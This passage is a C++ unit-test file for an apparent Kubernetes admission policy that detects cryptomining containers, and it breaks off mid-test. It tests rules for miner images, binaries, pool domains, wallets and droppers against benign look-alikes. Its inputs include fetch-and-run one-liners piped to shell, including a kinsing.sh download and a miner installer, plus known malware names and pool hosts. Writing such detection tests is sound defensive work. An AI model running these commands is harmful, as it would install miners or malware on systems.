// Each signal of the default policy: what it catches, and the near-misses it must leave alone.
// False positives are as bad as misses: a webhook that rejects a legitimate deploy gets
// uninstalled, so every trap here must come out with no deny (and mostly no finding at all).

#include <gtest/gtest.h>

#include "test/policy/test_util.h"

namespace stratum_guard::policy {
namespace {

using testing::Describe;
using testing::EvaluateDefault;
using testing::FindingOf;
using testing::TestContainer;

constexpr char kMoneroWallet[] =
    "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3"
    "A";

TestContainer WithArgs(std::vector<std::string> args, std::string image = "alpine:3.19") {
  TestContainer c;
  c.image = std::move(image);
  c.args = std::move(args);
  return c;
}

TestContainer WithCommand(std::vector<std::string> command, std::string image = "alpine:3.19") {
  TestContainer c;
  c.image = std::move(image);
  c.command = std::move(command);
  return c;
}

TestContainer WithEnv(std::string name, std::string value) {
  TestContainer c;
  c.env.emplace_back(std::move(name), std::move(value));
  return c;
}

void ExpectDenied(const TestContainer& c, const std::string& rule) {
  Verdict v = EvaluateDefault(c);
  EXPECT_TRUE(v.Denied()) << Describe(v);
  const Finding* f = FindingOf(v, rule);
  ASSERT_NE(f, nullptr) << "expected rule " << rule << ":\n" << Describe(v);
  EXPECT_EQ(f->action, Action::kDeny) << Describe(v);
}

void ExpectClean(const TestContainer& c) {
  Verdict v = EvaluateDefault(c);
  EXPECT_TRUE(v.Empty()) << Describe(v);
}

void ExpectNotDenied(const TestContainer& c) {
  Verdict v = EvaluateDefault(c);
  EXPECT_FALSE(v.Denied()) << Describe(v);
}

// ---- stratum-url -----------------------------------------------------------------------------

TEST(StratumUrlTest, EverySchemeInArgsDenies) {
  for (std::string url : {"stratum+tcp://pool.example:3333", "stratum+ssl://pool.example:443",
                          "stratum+tls://pool.example:443", "stratum+udp://pool.example:3333",
                          "stratum1+tcp://eth.pool.example:4444",
                          "stratum2+tcp://eth.pool.example:4444", "STRATUM+TCP://POOL.EXAMPLE:3333",
                          "Stratum+Ssl://pool.example:3333", "stratum://pool.example:3333"}) {
    SCOPED_TRACE(url);
    ExpectDenied(WithArgs({"-o", url}), "stratum-url");
  }
}

TEST(StratumUrlTest, InCommandAndInsideAnArgument) {
  ExpectDenied(WithCommand({"/app/run", "--url=stratum+tcp://10.0.0.5:3333"}), "stratum-url");
  ExpectDenied(WithArgs({"--pool", "user:x@stratum+tcp://a.b:1"}), "stratum-url");
}

TEST(StratumUrlTest, InEnvValue) {
  Verdict v = EvaluateDefault(WithEnv("POOL_URL", "stratum+ssl://pool.example:3333"));
  const Finding* f = FindingOf(v, "stratum-url");
  ASSERT_NE(f, nullptr) << Describe(v);
  EXPECT_EQ(f->field, "env[POOL_URL]");
  EXPECT_EQ(f->path, "spec.containers[0].env[0].value");
  EXPECT_EQ(f->evidence, "stratum+ssl://pool.example:3333");
  EXPECT_EQ(
      f->message,
      "container \"app\" env[POOL_URL] has Stratum pool URL \"stratum+ssl://pool.example:3333\"");
}

TEST(StratumUrlTest, WordStratumOutsideAUrlIsClean) {
  ExpectClean(WithArgs({"--stratum-mode", "strict"}, "stratumcms/stratum:2.1"));
  ExpectClean(WithArgs({"--site-url=https://stratum.example.com/", "--theme", "stratum"}));
  ExpectClean(WithEnv("CMS_NAME", "Stratum CMS"));
  ExpectClean(WithEnv("DOCS", "see https://en.wikipedia.org/wiki/Stratum_(protocol)"));
  ExpectClean(WithCommand({"stratum", "serve"}));
}

// ---- miner-image -----------------------------------------------------------------------------

TEST(MinerImageTest, MatchesRepositoryWhateverRegistryTagOrDigest) {
  for (std::string image :
       {"xmrig/xmrig", "xmrig/xmrig:6.21.0", "docker.io/xmrig/xmrig:latest",
        "ghcr.io/someone/xmrig:v6",
        "registry.example:5000/team/xmrig@sha256:"
        "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
        "quay.io/x/xmr-stak:1", "cpuminer-opt", "lolminer:1.88", "a/t-rex:0.26",
        "docker.io/gakeaws/nginx:v8", "pocosow/centos:7", "XMRig/XMRig:latest",
        "localhost:5000/nbminer", "docker.io/docker123321/tomcat:latest", "vibersastra/golang:1",
        "arayan/monero-miner", "index.docker.io/alpineos/dockerapi:2", "ddsfdfsaadfs/dfsdf:99"}) {
    SCOPED_TRACE(image);
    TestContainer c;
    c.image = image;
    ExpectDenied(c, "miner-image");
  }
}

TEST(MinerImageTest, FindingPointsAtTheImage) {
  TestContainer c;
  c.name = "worker";
  c.image = "xmrig/xmrig:6.21.0";
  Verdict v = EvaluateDefault(c);
  const Finding* f = FindingOf(v, "miner-image");
  ASSERT_NE(f, nullptr) << Describe(v);
  EXPECT_EQ(f->field, "image");
  EXPECT_EQ(f->path, "spec.containers[0].image");
  EXPECT_EQ(f->message, "container \"worker\" image has known miner image \"xmrig/xmrig:6.21.0\"");
}

TEST(MinerImageTest, LookAlikesAreClean) {
  for (std::string image :
       {"itzg/minecraft-server:java17", "datamining/spark:3.5", "minio/minio:latest",
        "bitnami/kubectl:1.29", "gakeaws-fan/nginx:1", "nginx:xmrig",
        "library/nginx@sha256:"
        "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
        "xmrig.example.com/app/web:1", "ghcr.io/acme/xmrig-dashboard-ui:2",
        "ghcr.io/acme/xmrig-exporter:1", "acme/t-rex-runner:1", "acme/rigel-api:2",
        "ruimarinho/bitcoin-core:24", "docker123321:1", "arayan/web:1",
        "ghcr.io/acme/docker123321-tools:1"}) {
    SCOPED_TRACE(image);
    TestContainer c;
    c.image = image;
    ExpectClean(c);
  }
}

// ---- miner-binary ----------------------------------------------------------------------------

TEST(MinerBinaryTest, CommandFirstWordDenies) {
  ExpectDenied(WithCommand({"xmrig", "-c", "/etc/config.json"}), "miner-binary");
  ExpectDenied(WithCommand({"/usr/local/bin/xmrig"}), "miner-binary");
  ExpectDenied(WithCommand({"./cpuminer", "--help"}), "miner-binary");
  ExpectDenied(WithCommand({"nohup", "nice", "-n", "19", "/tmp/.x/kdevtmpfsi"}), "miner-binary");
  // No command: args[0] is what runs when the image has no entrypoint.
  ExpectDenied(WithArgs({"ethminer", "-G"}), "miner-binary");
}

TEST(MinerBinaryTest, RenamedMalwareNames) {
  for (std::string name : {"kdevtmpfsi", "kinsing", "kthreaddi", "dbused", "kswapd0"}) {
    SCOPED_TRACE(name);
    ExpectDenied(WithCommand({"/tmp/" + name}), "miner-binary");
  }
}

TEST(MinerBinaryTest, InsideShellScripts) {
  ExpectDenied(WithCommand({"sh", "-c", "cd /tmp && ./xmrig --config=c.json"}), "miner-binary");
  ExpectDenied(WithCommand({"/bin/bash", "-ec", "apt-get update; exec t-rex -a kawpow"}),
               "miner-binary");
}

TEST(MinerBinaryTest, PublishedInstallerPipedIntoBash) {
  ExpectDenied(WithCommand({"bash", "-c",
                            "curl -s -L https://raw.githubusercontent.com/MoneroOcean/xmrig_setup/"
                            "master/setup_moneroocean_miner.sh | bash -s 4AMASi45"}),
               "miner-binary");
}

TEST(MinerBinaryTest, NamesContainingMineAreClean) {
  ExpectClean(WithCommand({"kubectl", "apply", "-f", "/manifests"}));
  ExpectClean(WithCommand({"minio", "server", "/data"}));
  ExpectClean(WithCommand({"java", "-jar", "/minecraft/server.jar", "nogui"}));
  ExpectClean(WithCommand({"python", "mine_logs.py", "--input", "/data/logs"}));
  ExpectClean(WithCommand({"/usr/bin/miner-stats-exporter"}));
  // A miner's name as an ordinary argument (not run) is not a binary finding.
  ExpectClean(WithCommand({"grep", "-c", "xmrig", "/var/log/audit.log"}));
}

// ---- pool-domain -----------------------------------------------------------------------------

TEST(PoolDomainTest, HostPortWithAndWithoutScheme) {
  ExpectDenied(WithArgs({"-o", "gulf.moneroocean.stream:10128"}), "pool-domain");
  ExpectDenied(WithArgs({"--url=pool.supportxmr.com:443"}), "pool-domain");
  ExpectDenied(WithArgs({"-o", "xmr.2miners.com:2222"}), "pool-domain");
  ExpectDenied(WithArgs({"--pool", "ssl://pool.hashvault.pro:443"}), "pool-domain");
  ExpectDenied(WithArgs({"-o", "POOL.SUPPORTXMR.COM:3333"}), "pool-domain");
  ExpectDenied(WithEnv("POOL", "auto.c3pool.org:19999"), "pool-domain");
  ExpectDenied(WithArgs({"-o", "rx.unmineable.com:3333"}), "pool-domain");
}

TEST(PoolDomainTest, SplitAcrossFlags) {
  Verdict v = EvaluateDefault(WithArgs({"--pool", "xmr-eu1.nanopool.org", "--port", "14444"}));
  const Finding* f = FindingOf(v, "pool-domain");
  ASSERT_NE(f, nullptr) << Describe(v);
  EXPECT_EQ(f->field, "args[1]");
  EXPECT_EQ(f->evidence, "xmr-eu1.nanopool.org");
  EXPECT_TRUE(v.Denied());
  ExpectDenied(WithArgs({"-o", "herominers.com", "-u", "x"}), "pool-domain");
}

TEST(PoolDomainTest, OnlyAtLabelBoundaries) {
  ExpectClean(WithArgs({"--upstream", "evil-supportxmr.com.example:8080"}));
  ExpectClean(WithArgs({"--upstream", "supportxmr.com.example"}));
  ExpectClean(WithArgs({"--upstream", "notsupportxmr.com"}));
  ExpectClean(WithArgs({"--host", "api.nicehash.com.internal.example"}));
  ExpectClean(WithEnv("NOTE", "moneroocean"));
}

// ---- miner-flag (supporting) -----------------------------------------------------------------

TEST(MinerFlagTest, AloneWarnsAndNeverDenies) {
  for (std::vector<std::string> args :
       std::vector<std::vector<std::string>>{{"--donate-level", "1"},
                                             {"--donate-level=0"},
                                             {"--randomx-1gb-pages"},
                                             {"-a", "rx/0"},
                                             {"--algo=cryptonight"},
                                             {"--algo", "RandomX"},
                                             {"--coin", "monero"},
                                             {"--coin=XMR"},
                                             {"--nicehash"},
                                             {"--cpu-priority", "5"},
                                             {"--algo", "kawpow"},
                                             {"-a", "ethash"}}) {
    SCOPED_TRACE(args[0]);
    Verdict v = EvaluateDefault(WithArgs(args, "ghcr.io/acme/worker:1"));
    const Finding* f = FindingOf(v, "miner-flag");
    ASSERT_NE(f, nullptr) << Describe(v);
    EXPECT_EQ(f->action, Action::kWarn);
    EXPECT_FALSE(v.Denied()) << Describe(v);
    EXPECT_TRUE(v.Warned());
  }
}

TEST(MinerFlagTest, OrdinaryFlagsAndValuesAreClean) {
  ExpectClean(WithArgs({"-a", "0.0.0.0", "--algo", "lz4", "--coin", "heads"}));
  ExpectClean(WithArgs({"--algorithm=sha256", "--priority", "5"}));
  ExpectClean(WithArgs({"tar", "-a", "-cf", "x.tar.gz", "."}));
  ExpectClean(WithArgs({"--cpu-priority-class=high"}));
}

// ---- wallet-address (supporting) -------------------------------------------------------------

TEST(WalletTest, EachFormatAloneWarns) {
  for (std::string wallet :
       {std::string(kMoneroWallet),
        std::string("dero1qyvqpdftj8r6005xs20rnflakmwa5pdxg9vcjzdcuywq2t8skqhvwqglt6x0g"),
        std::string("1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"),
        std::string("bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq"),
        std::string("0xde0B295669a9FD93d5F28D9Ec85E40f4cb697BAe")}) {
    SCOPED_TRACE(wallet);
    Verdict args_verdict = EvaluateDefault(WithArgs({"-u", wallet + ".worker1"}));
    const Finding* f = FindingOf(args_verdict, "wallet-address");
    ASSERT_NE(f, nullptr) << Describe(args_verdict);
    EXPECT_EQ(f->action, Action::kWarn);
    EXPECT_FALSE(args_verdict.Denied());
    // A donation address in an env var: a warning at most, never a denial.
    Verdict env_verdict = EvaluateDefault(WithEnv("DONATE_ADDRESS", wallet));
    EXPECT_NE(FindingOf(env_verdict, "wallet-address"), nullptr) << Describe(env_verdict);
    EXPECT_FALSE(env_verdict.Denied()) << Describe(env_verdict);
  }
}

TEST(WalletTest, EvidenceIsTruncatedWithAnEllipsis) {
  Verdict v = EvaluateDefault(WithArgs({std::string(kMoneroWallet)}));
  const Finding* f = FindingOf(v, "wallet-address");
  ASSERT_NE(f, nullptr) << Describe(v);
  EXPECT_EQ(f->evidence, std::string(kMoneroWallet).substr(0, 77) + "\xE2\x80\xA6");
}

TEST(WalletTest, HashesAndIdsAreClean) {
  // Hex digests, UUIDs, base64 tokens and lower-case words of wallet length.
  ExpectClean(WithArgs({"--sha", "3f786850e387550fdab836ed7e6dc881de23001b"}));
  ExpectClean(WithArgs(
      {"--digest", "sha256:1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f1a2b"}));
  ExpectClean(WithArgs({"--id", "123e4567-e89b-12d3-a456-426614174000"}));
  ExpectClean(WithEnv("TRACE_ID", "1aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"));
  ExpectClean(WithEnv("ZERO", "0x0000000000000000000000000000000000000000"));
}

// ---- pool-port (supporting) ------------------------------------------------------------------

TEST(PoolPortTest, AloneIsOnlyAudited) {
  Verdict v = EvaluateDefault(WithArgs({"--upstream", "proxy.internal:3333"}));
  const Finding* f = FindingOf(v, "pool-port");
  ASSERT_NE(f, nullptr) << Describe(v);
  EXPECT_EQ(f->action, Action::kAudit);
  EXPECT_EQ(f->evidence, "proxy.internal:3333");
  EXPECT_FALSE(v.Denied());
  EXPECT_FALSE(v.Warned());
  EXPECT_NE(FindingOf(EvaluateDefault(WithArgs({"-o", "10.1.2.3:45700"})), "pool-port"), nullptr);
}

TEST(PoolPortTest, WebAppsOnPoolPortsAreClean) {
  // Grafana on 3333, a notebook on 8888, a web URL on 4444.
  TestContainer grafana;
  grafana.image = "grafana/grafana:10.2.0";
  grafana.env = {{"GF_SERVER_HTTP_PORT", "3333"},
                 {"GF_SERVER_ROOT_URL", "http://grafana.example:3333/"}};
  ExpectClean(grafana);
  TestContainer jupyter;
  jupyter.image = "jupyter/base-notebook:2023-10-20";
  jupyter.args = {"start-notebook.sh", "--NotebookApp.port=8888", "--ip=0.0.0.0"};
  ExpectClean(jupyter);
  ExpectClean(WithArgs({"--backend", "https://api.example.com:4444/v1"}));
  ExpectClean(WithArgs({"--listen", ":3333"}));
  ExpectClean(WithArgs({"--time", "12:30"}));
}

// ---- download-exec (supporting) --------------------------------------------------------------

TEST(DownloadExecTest, PipeToShellFromARawIpWarns) {
  for (std::string script : {"curl -fsSL http://45.9.148.35/kinsing.sh | sh",
                             "wget -q -O - http://198.51.100.7:8080/x | bash",
                             "curl -o /tmp/a http://203.0.113.9/a && chmod +x /tmp/a && /tmp/a"}) {
    SCOPED_TRACE(script);
    Verdict v = EvaluateDefault(WithCommand({"sh", "-c", script}));
    const Finding* f = FindingOf(v, "download-exec");
    ASSERT_NE(f, nullptr) << Describe(v);
    EXPECT_EQ(f->action, Action::kWarn);
    EXPECT_EQ(f->field, "command[2]");
  }
}

TEST(DownloadExecTest, DomainsAndPlainDownloadsAreClean) {
  // From a domain, a fetch-and-run is only the dropper rule's audit, not this rule's warning.
  Verdict helm = EvaluateDefault(
      WithCommand({"sh", "-c", "curl -fsSL https://get.helm.sh/install.sh | bash"}));
  EXPECT_EQ(FindingOf(helm, "download-exec"), nullptr) << Describe(helm);
  EXPECT_FALSE(helm.Warned()) << Describe(helm);
  ExpectClean(WithCommand({"sh", "-c", "wget http://10.0.0.5/data.csv -O /data/in.csv"}));
  ExpectClean(WithCommand({"curl", "-s", "http://169.254.169.254/latest/meta-data/"}));
}

// ---- combinations ----------------------------------------------------------------------------

TEST(CombineTest, TwoSupportingSignalsInOneContainerDeny) {
  // A wallet with a miner flag: both escalate to deny and name each other.
  Verdict v = EvaluateDefault(
      WithArgs({"--donate-level", "1", "-u", std::string(kMoneroWallet)}, "ghcr.io/acme/w:1"));
  EXPECT_TRUE(v.Denied()) << Describe(v);
  const Finding* flag = FindingOf(v, "miner-flag");
  const Finding* wallet = FindingOf(v, "wallet-address");
  ASSERT_NE(flag, nullptr);
  ASSERT_NE(wallet, nullptr);
  EXPECT_EQ(flag->action, Action::kDeny);
  EXPECT_EQ(wallet->action, Action::kDeny);
  EXPECT_EQ(flag->message,
            "container \"app\" args[0] has miner option \"--donate-level\", together with wallet "
            "address in args[3]");
}

TEST(CombineTest, EvidenceMaySpanFieldsOfOneContainer) {
  // Port in args, wallet in env.
  TestContainer c = WithArgs({"-o", "10.1.2.3:14444"}, "ghcr.io/acme/w:1");
  c.env = {{"WALLET", kMoneroWallet}};
  Verdict v = EvaluateDefault(c);
  EXPECT_TRUE(v.Denied()) << Describe(v);
  EXPECT_EQ(FindingOf(v, "pool-port")->action, Action::kDeny);
}

TEST(CombineTest, SignalsInDifferentContainersDoNotCombine) {
  TestContainer a = WithArgs({"--donate-level", "1"}, "ghcr.io/acme/a:1");
  a.name = "a";
  TestContainer b = WithEnv("WALLET", kMoneroWallet);
  b.name = "b";
  Verdict v = EvaluateDefault(std::vector<TestContainer>{a, b});
  EXPECT_FALSE(v.Denied()) << Describe(v);
  EXPECT_EQ(v.findings.size(), 2u) << Describe(v);
}

TEST(CombineTest, TwoHitsOfTheSameSupportingRuleDoNotCombine) {
  // The same miner option twice is one signal; two wallets are one signal.
  Verdict v = EvaluateDefault(WithArgs({"--donate-level", "1", "--donate-level", "1"}));
  EXPECT_FALSE(v.Denied()) << Describe(v);
  TestContainer c = WithEnv("BTC", "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa");
  c.env.emplace_back("XMR", kMoneroWallet);
  EXPECT_FALSE(EvaluateDefault(c).Denied());
}

TEST(CombineTest, TwoDifferentMinerOptionsDeny) {
  // miner-flag combines with itself: a second, different option of a miner is a second signal,
  // in separate arguments or inside one script.
  Verdict v = EvaluateDefault(WithArgs({"--donate-level", "1", "--randomx-1gb-pages"}));
  EXPECT_TRUE(v.Denied()) << Describe(v);
  const Finding* f = FindingOf(v, "miner-flag");
  ASSERT_NE(f, nullptr) << Describe(v);
  EXPECT_NE(f->message.find("together with another miner option in args["), std::string::npos)
      << f->message;
  Verdict script = EvaluateDefault(
      WithCommand({"sh", "-c", "./run --mining-threads 4 --daemon-rpc-address node:10102"}));
  EXPECT_TRUE(script.Denied()) << Describe(script);
  EXPECT_NE(FindingOf(script, "miner-flag")->message.find("together with another miner option"),
            std::string::npos)
      << Describe(script);
}

// ---- image words (miner-image, mining-image-word) --------------------------------------------

TEST(MinerImageWordsTest, RenamedMinerImagesDeny) {
  for (std::string image :
       {"acme/xmrig-no-donate:6.21", "acme/xmrig_no_donate", "acme/no-donate-xmrig:1",
        "ghcr.io/x/xmrigcc:3.3", "someone/docker_xmrig:latest", "ghcr.io/x/myxmrig",
        "registry.example/team/XMRig.Build:7", "a/cpuminer-gr-avx2:1", "a/srbminer-multi-2:2",
        "a/bzminer:17", "a/cryptominer:1", "a/crypto-miner:latest", "a/monero_miner:2",
        "a/miner-xmr:1", "x/gpu-miner:3", "x/coin.miner:1", "x/y/xmr-stak-rx:1"}) {
    SCOPED_TRACE(image);
    TestContainer c;
    c.image = image;
    ExpectDenied(c, "miner-image");
  }
}

TEST(MinerImageWordsTest, FullNodesValidatorsAndMinerToolingAreClean) {
  for (std::string image :
       {"sethsimmons/simple-monerod:v0.18.3.1", "ghcr.io/sethforprivacy/monero-wallet-rpc:0.18",
        "kylemanna/bitcoind:latest", "ethereum/client-go:v1.13.5", "thorax/erigon:v2.55.1",
        "sigp/lighthouse:v4.5.0", "gcr.io/prysmaticlabs/prysm/beacon-chain:v4.1.1",
        "gcr.io/prysmaticlabs/prysm/validator:v4.1.1", "hyperledger/besu:23.10.2",
        "quorumengineering/quorum:23.4", "graphprotocol/indexer-agent:v0.20",
        "ghcr.io/acme/xmrig-exporter:1", "ghcr.io/acme/cryptominer-detector:2",
        "datamining/spark:3.5", "acme/minerva:1", "acme/mineral-db:2", "acme/examiner:1"}) {
    SCOPED_TRACE(image);
    TestContainer c;
    c.image = image;
    ExpectClean(c);
  }
}

TEST(MinerImageWordsTest, GenericMiningWordAloneIsOnlyAudited) {
  for (std::string image : {"acme/log-miner:1", "acme/mining:2", "acme/monero-cpu:1",
                            "acme/monero_pool:3", "acme/xmr.pool:1"}) {
    SCOPED_TRACE(image);
    TestContainer c;
    c.image = image;
    Verdict v = EvaluateDefault(c);
    const Finding* f = FindingOf(v, "mining-image-word");
    ASSERT_NE(f, nullptr) << Describe(v);
    EXPECT_EQ(f->action, Action::kAudit);
    EXPECT_FALSE(v.Denied()) << Describe(v);
    EXPECT_FALSE(v.Warned()) << Describe(v);
  }
}

TEST(MinerImageWordsTest, GenericMiningWordWithAnotherSignalDenies) {
  ExpectDenied(WithArgs({"-u", kMoneroWallet}, "acme/monero-cpu:1"), "mining-image-word");
  ExpectDenied(WithArgs({"--donate-level", "1"}, "acme/miner:2"), "mining-image-word");
  ExpectDenied(WithArgs({"-o", "10.1.2.3:3333"}, "acme/hashrate-box:1"), "mining-image-word");
}

// ---- miner option families -------------------------------------------------------------------

TEST(MinerFlagFamiliesTest, EachFamilyWarnsAloneAndDeniesWithAWallet) {
  for (std::vector<std::string> option : std::vector<std::vector<std::string>>{
           {"--daemon-rpc-address", "node.example:10102"},  // Dero
           {"--mining-threads", "4"},                       // Dero
           {"--give-up-limit", "3"},                        // SRBMiner
           {"--dualmode", "KASPADUAL"},                     // lolMiner
           {"--pool_password", "x"},                        // BzMiner
           {"--secondary-url", "eu.example.net"},           // NBMiner
           {"--lhr-tune", "71"},                            // T-Rex
           {"--dual_algo", "kheavyhash"},                   // GMiner
           {"-rigName", "rig1"},                            // nanominer
           {"--algo", "kheavyhash"},
           {"-a", "octopus"},
           {"--coin", "kaspa"}}) {
    SCOPED_TRACE(option[0]);
    Verdict alone = EvaluateDefault(WithArgs(option, "ghcr.io/acme/worker:1"));
    const Finding* f = FindingOf(alone, "miner-flag");
    ASSERT_NE(f, nullptr) << Describe(alone);
    EXPECT_EQ(f->action, Action::kWarn) << Describe(alone);
    EXPECT_FALSE(alone.Denied()) << Describe(alone);
    std::vector<std::string> with_wallet = option;
    with_wallet.insert(with_wallet.end(), {"-u", kMoneroWallet});
    ExpectDenied(WithArgs(with_wallet, "ghcr.io/acme/worker:1"), "miner-flag");
  }
}

TEST(MinerFlagFamiliesTest, DeroMinerUnderAnInnocentImageDenies) {
  // The CrowdStrike Dero campaign's shape: an ordinary-looking image, Dero's own options.
  const std::string dero_wallet =
      "dero1qyvqpdftj8r6005xs20rnflakmwa5pdxg9vcjzdcuywq2t8skqhvwqglt6x0g";
  Verdict v = EvaluateDefault(WithArgs({"--wallet-address", dero_wallet, "--daemon-rpc-address",
                                        "d.example.net:10100", "--mining-threads", "8"},
                                       "docker.io/someone/pause:3"));
  EXPECT_TRUE(v.Denied()) << Describe(v);
}

TEST(MinerFlagFamiliesTest, GethMiningOptionsAreNotEvidence) {
  // Since the merge, geth's --mine only seals blocks on private chains (GoQuorum validators).
  Verdict v = EvaluateDefault(WithArgs({"--mine", "--minerthreads=1", "--miner.threads", "1",
                                        "--miner.gasprice", "0", "--syncmode", "full"},
                                       "quorumengineering/quorum:23.4"));
  EXPECT_TRUE(v.Empty()) << Describe(v);
}

TEST(MinerFlagFamiliesTest, LookAlikeOptionsAreClean) {
  ExpectClean(WithArgs({"--headless", "--disable-gpu", "--no-sandbox"}, "zenika/alpine-chrome"));
  ExpectClean(WithArgs({"--algo", "sha256", "-a", "md5", "--coin", "heads", "--wallet", "main"}));
  ExpectClean(WithArgs({"--threads", "4", "--pool-size", "8", "--user", "app", "--pass", "x"}));
}

// ---- pool domains and pool-shaped hosts ------------------------------------------------------

TEST(PoolDomainTest, WiderListCatchesPoolsWithoutAScheme) {
  ExpectDenied(WithArgs({"-o", "cryptonote.social:5555"}), "pool-domain");
  ExpectDenied(WithArgs({"--url", "stratum.coinminerz.com:3333"}), "pool-domain");
  ExpectDenied(WithEnv("POOL", "xmr.kryptex.network:7777"), "pool-domain");
}

TEST(PoolHostTest, PoolShapedHostOnAMiningPortWarnsAlone) {
  for (std::vector<std::string> args :
       std::vector<std::vector<std::string>>{{"-o", "pool.fresh-pool.io:3333"},
                                             {"--url=stratum.eu.example.org:14444"},
                                             {"-o", "xmr-eu.newpool.net:10128"},
                                             {"-o", "eu.mine.example.com:4444"},
                                             {"-o", "monero.example.org:13333"}}) {
    SCOPED_TRACE(args.back());
    Verdict v = EvaluateDefault(WithArgs(args, "ghcr.io/acme/worker:1"));
    const Finding* f = FindingOf(v, "pool-host");
    ASSERT_NE(f, nullptr) << Describe(v);
    EXPECT_EQ(f->action, Action::kWarn);
    EXPECT_EQ(f->evidence.find_first_of("=\" "), std::string::npos) << "the host, no separator";
    EXPECT_FALSE(v.Denied()) << Describe(v);
  }
}

TEST(PoolHostTest, WithAnotherSignalDenies) {
  ExpectDenied(WithArgs({"-o", "pool.fresh-pool.io:3333", "--donate-level", "0"}), "pool-host");
  ExpectDenied(WithArgs({"-o", "stratum.example.org:3333"}, "acme/miner:1"), "pool-host");
}

TEST(PoolHostTest, LookAlikesHaveNoPoolHostFinding) {
  for (std::vector<std::string> args :
       std::vector<std::vector<std::string>>{{"--grafana", "http://pool.example.com:3333/"},
                                             {"--pgpool", "pgpool.db.svc.cluster.local:9999"},
                                             {"--host", "poolmanager:5555"},
                                             {"--server", "minecraft.example.com:25565"},
                                             {"--db", "mongodb://pool.example:27017"},
                                             {"--cache", "redis-pool.cache.svc:6379"},
                                             {"--url", "https://mining.example.com:4444/api"}}) {
    SCOPED_TRACE(args.back());
    Verdict v = EvaluateDefault(WithArgs(args));
    EXPECT_EQ(FindingOf(v, "pool-host"), nullptr) << Describe(v);
    EXPECT_FALSE(v.Denied()) << Describe(v);
  }
}

// ---- dropper ---------------------------------------------------------------------------------

TEST(DropperTest, FetchAndRunFromAnyHostIsAuditedAlone) {
  for (std::vector<std::string> command : std::vector<std::vector<std::string>>{
           {"sh", "-c", "curl -fsSL https://cdn.example.net/i.sh | sh"},
           {"sh", "-c", "wget -qO- http://files.example.org/x | bash -s"},
           {"bash", "-c", "source <(curl -s https://x.example/install.sh)"},
           {"bash", "-c", "bash <(wget -qO- https://x.example/a)"},
           {"sh", "-c", "cd /tmp && sh -c \"$(wget -O- https://x.example/a.sh)\""},
           {"bash", "-c", "$(curl -fsSL https://x.example/a.sh)"},
           {"sh", "-c", "eval \"$(curl -s https://x.example/env)\""},
           {"sh", "-c", "curl -s https://x.example/a.py | python3"}}) {
    SCOPED_TRACE(command.back());
    Verdict v = EvaluateDefault(WithCommand(command));
    const Finding* f = FindingOf(v, "dropper");
    ASSERT_NE(f, nullptr) << Describe(v);
    EXPECT_EQ(f->action, Action::kAudit);
    EXPECT_FALSE(v.Denied()) << Describe(v);
    EXPECT_FALSE(v.Warned()) << Describe(v);
  }
}

TEST(DropperTest, WithAnotherSignalDenies) {
  TestContainer c = WithCommand({"sh", "-c", "curl -s https://cdn.example.net/s.sh | bash -s"});
  c.env = {{"WALLET", kMoneroWallet}};
  ExpectDenied(c, "dropper");
  ExpectDenied(WithCommand({"sh", "-c", "curl -s https://x.example/i.sh | sh"}, "acme/miner:1"),
               "dropper");
}

TEST(DropperTest, LookAlikesAreClean) {
  for (std::vector<std::string> command : std::vector<std::vector<std::string>>{
           {"sh", "-c", "curl -fsSL https://x.example/a.tgz -o /tmp/a.tgz && tar xzf /tmp/a.tgz"},
           {"sh", "-c", "curl -s https://x.example/health | jq .status"},
           {"sh", "-c", "curl -s https://x.example/f | sha256sum -c"},
           {"bash", "-c", "source ~/.bashrc && bash <(echo hi)"},
           {"sh", "-c", "TOKEN=$(curl -s http://metadata/token) && ./app"}}) {
    SCOPED_TRACE(command.back());
    ExpectClean(WithCommand(command));
  }
}

// ---- base64 in env values --------------------------------------------------------------------

TEST(EnvBase64Test, EncodedPoolUrlAndConfigAreDecoded) {
  // "stratum+tcp://pool.example:3333"
  Verdict v = EvaluateDefault(WithEnv("CFG", "c3RyYXR1bSt0Y3A6Ly9wb29sLmV4YW1wbGU6MzMzMw=="));
  const Finding* f = FindingOf(v, "stratum-url");
  ASSERT_NE(f, nullptr) << Describe(v);
  EXPECT_EQ(f->field, "env[CFG]");
  EXPECT_NE(f->message.find("(decoded from base64)"), std::string::npos) << f->message;
  EXPECT_TRUE(v.Denied());
  // "-o gulf.moneroocean.stream:10128 --donate-level 1"
  ExpectDenied(
      WithEnv("ARGS", "LW8gZ3VsZi5tb25lcm9vY2Vhbi5zdHJlYW06MTAxMjggLS1kb25hdGUtbGV2ZWwgMQ=="),
      "pool-domain");
}

TEST(EnvBase64Test, OrdinaryEncodedValuesAreClean) {
  TestContainer c;
  c.env = {// {"log":"info","port":8080}
           {"CONFIG_B64", "eyJsb2ciOiJpbmZvIiwicG9ydCI6ODA4MH0="},
           {"TLS_CA", "MIIBszCCAVmgAwIBAgIUHq0Yy1ZyQm2dJ5xWw7r5N2J9m0kwCgYIKoZIzj0EAwIw"},
           {"PATH_LIKE", "/usr/local/sbin/abcdefghijklmnopqrstuvwxyz"}};
  ExpectClean(c);
}

// ---- traps that must not deny ----------------------------------------------------------------

TEST(TrapTest, MinecraftServer) {
  TestContainer c;
  c.image = "itzg/minecraft-server:java17";
  c.env = {{"EULA", "TRUE"}, {"TYPE", "PAPER"}, {"MEMORY", "2G"}, {"SERVER_PORT", "25565"}};
  ExpectClean(c);
}

TEST(TrapTest, DataMiningJob) {
  TestContainer c;
  c.image = "datamining/spark:3.5.0";
  c.command = {"python", "mine_logs.py"};
  c.args = {"--input", "s3://logs/2024/", "--mine-patterns", "--algo", "apriori"};
  c.env = {{"MINING_MODE", "frequent-itemsets"}};
  ExpectClean(c);
}

TEST(TrapTest, BitcoinFullNode) {
  TestContainer c;
  c.image = "ruimarinho/bitcoin-core:24.0.1";
  c.command = {"bitcoind"};
  c.args = {"-printtoconsole", "-rpcallowip=10.0.0.0/8", "-rpcbind=0.0.0.0",
